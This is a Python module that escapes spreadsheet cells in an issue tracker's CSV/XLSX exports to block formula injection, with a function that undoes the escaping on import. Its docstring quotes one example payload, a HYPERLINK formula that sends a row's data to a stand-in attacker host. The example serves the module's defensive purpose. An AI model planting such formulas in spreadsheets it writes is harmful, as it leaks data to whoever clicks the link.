"""Cells of every CSV/XLSX file the tracker writes (public and internal): one rule, one place.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula (``=HYPERLINK("https://evil.example/?"&A2, "open")`` sends a row
away when clicked). Titles, names and notes are typed by people outside the organisation, so
every text cell that starts that way is written with a leading apostrophe, which spreadsheets
show as plain text. Numbers (``-12.5``) are left as they are. The importer takes the apostrophe
off again (``restore``), so an internal export still round-trips.
"""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def safe_text(text: str) -> str:
    """``text`` as a spreadsheet shows it, never run as a formula."""
    if text.startswith(FORMULA_START) and not _is_number(text):
        return ESCAPE + text
    return text


def cell(value) -> str:
    """A value as CSV/XLSX cell text: ``None`` empty, booleans ``true``/``false``, text made safe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return safe_text(str(value))


def xlsx_value(value):
    """A value for an XLSX cell: numbers stay numbers, text is made safe."""
    if isinstance(value, str):
        return safe_text(value)
    return value


def restore(text: str) -> str:
    """The text ``safe_text`` was given (an imported cell written by one of our exports)."""
    if text.startswith(ESCAPE) and text[1:].startswith(FORMULA_START) and not _is_number(text[1:]):
        return text[1:]
    return text
